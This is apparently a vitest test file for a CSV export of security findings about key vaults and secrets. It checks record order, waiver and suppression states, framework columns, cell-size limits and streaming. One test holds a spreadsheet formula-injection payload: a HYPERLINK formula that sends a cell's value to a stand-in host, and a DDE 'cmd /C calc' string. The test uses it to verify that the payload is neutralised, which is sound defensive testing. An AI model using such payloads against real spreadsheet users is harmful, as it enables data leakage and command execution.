import { describe, expect, test } from "vitest";
import mapping from "../../src/model/facts/control-mapping.json" with { type: "json" };
import type { Finding, ReportReader } from "../../src/model/report.ts";
import { reportCsv } from "../../src/reporters/csv.ts";
import { readCsvRecords } from "../support/csv-reader.ts";
import { buildReport, memorySink } from "../support/report-fixture.ts";
import { exampleRules, finding, secret, vault } from "./example-findings.ts";
import { baselineReport, emptyReport, hostileReport, ordinaryReport } from "./example-reports.ts";

const home = vault("kv-app");

async function csvOf(report: ReportReader): Promise<string> {
  const sink = memorySink();
  await reportCsv(report, sink);
  return sink.text();
}

async function recordsOf(report: ReportReader) {
  const text = await csvOf(report);
  expect(text.startsWith("\ufeffseverity,state,rule,")).toBe(true);
  return readCsvRecords(text.slice(1));
}

function reportOf(...findings: readonly Finding[]): ReportReader {
  return buildReport({ rules: exampleRules, findings });
}

function open(more: Partial<Finding> = {}): Finding {
  return finding({ ruleId: "vault-network-open", severity: "critical", subject: home, message: "open", ...more });
}

async function findingsOf(report: ReportReader): Promise<readonly Finding[]> {
  return Array.fromAsync(report.findings());
}

describe("findings.csv", () => {
  test("golden", async () => {
    await expect(await csvOf(ordinaryReport())).toMatchFileSnapshot("__snapshots__/ordinary.findings.csv.snap");
    await expect(await csvOf(hostileReport())).toMatchFileSnapshot("__snapshots__/hostile.findings.csv.snap");
  });

  test.each(Object.entries({ emptyReport, ordinaryReport, baselineReport, hostileReport }))(
    "of the %s has one record a finding, in order, and reads back",
    async (_, build) => {
      const findings = await findingsOf(build());
      const records = await recordsOf(build());
      expect(records.map(({ severity, rule, fingerprint }) => [severity, rule, fingerprint])).toEqual(
        findings.map(({ severity, ruleId, fingerprint }) => [severity, ruleId, fingerprint]),
      );
    },
  );

  test("says of each finding what is to be done about it", async () => {
    const waiver = { reason: "migration, see wiki", approver: "ciso", ticket: "SEC-1", until: "2027-01-31" } as const;
    const at = { uri: "main.tf", startLine: 3 };
    const records = await recordsOf(
      reportOf(
        open({ subject: vault("a"), waiver: { ...waiver, state: "active" } }),
        open({ subject: vault("b"), waiver: { ...waiver, state: "expired" } }),
        open({ subject: vault("c"), suppression: { reason: "a test bed", at } }),
        open({ subject: vault("d"), baselineState: "unchanged" }),
        open({ subject: vault("e"), baselineState: "new", location: at }),
      ),
    );
    expect(records.map((one) => [one["state"], one["waiver"], one["reason"], one["until"], one["location"]])).toEqual([
      ["waived", "active", "migration, see wiki", "2027-01-31", ""],
      ["open", "expired", "migration, see wiki", "2027-01-31", ""],
      ["suppressed", "", "a test bed", "", ""],
      ["known", "", "", "", ""],
      ["new", "", "", "", "main.tf:3"],
    ]);
  });

  test("names the vault of everything that lies in one", async () => {
    const inVault = finding({
      ruleId: "secret-expiring",
      severity: "low",
      subject: secret("db", home),
      message: "soon",
      owner: "Größe & Söhne",
    });
    expect(await recordsOf(reportOf(inVault))).toMatchObject([
      {
        subject_type: "secret",
        subject_name: "db",
        vault: "kv-app",
        owner: "Größe & Söhne",
        title: "Secret expires soon",
      },
    ]);
  });

  test("has a column for each framework that findings carry ids of", async () => {
    const frameworks = Object.keys(mapping.frameworks);
    const controls = frameworks.map((name) => `${name}:1.2`).concat("soc2:CC6.1");
    const [record] = await recordsOf(reportOf(open({ controls })));
    for (const name of frameworks) expect(record?.[name]).toBe(name === "soc2" ? "1.2 CC6.1" : "1.2");
  });

  test("no cell begins a formula or a second line, whatever names and messages hold", async () => {
    const attack = '=HYPERLINK("http://x.example?"&A1,"open");@SUM(1)\r\n+cmd|\' /C calc\'!A0';
    const text = await csvOf(
      reportOf(
        open({
          message: attack,
          owner: "@team",
          subject: { ...home, name: "-kv" },
          remediation: { text: "\tx" },
          location: { uri: "+a.tf", startLine: 1 },
        }),
      ),
    );
    expect(text.trimEnd().split("\n")).toHaveLength(2);
    const [record = {}] = readCsvRecords(text.slice(1));
    for (const cell of Object.values(record)) expect(cell).not.toMatch(/(^|;)\s*[=+\-@\t]/);
    expect(record).toMatchObject({ owner: "'@team", subject_name: "'-kv", location: "'+a.tf:1" });
  });

  test("cuts what no cell of a spreadsheet holds", async () => {
    const [record] = await recordsOf(reportOf(open({ message: "x".repeat(100_000) })));
    expect(record?.["message"]?.length).toBeLessThan(32_767);
  });

  test("streams: what it holds does not grow with the findings", async () => {
    const many = function* () {
      for (let index = 0; index < 20_000; index += 1) yield open({ message: `finding ${index}` });
    };
    const sizes: number[] = [];
    await reportCsv(buildReport({ rules: exampleRules, findings: many }), {
      write: async (text) => void sizes.push(text.length),
    });
    expect(sizes.length).toBeGreaterThan(50);
    expect(Math.max(...sizes)).toBeLessThan(140_000);
  });
});
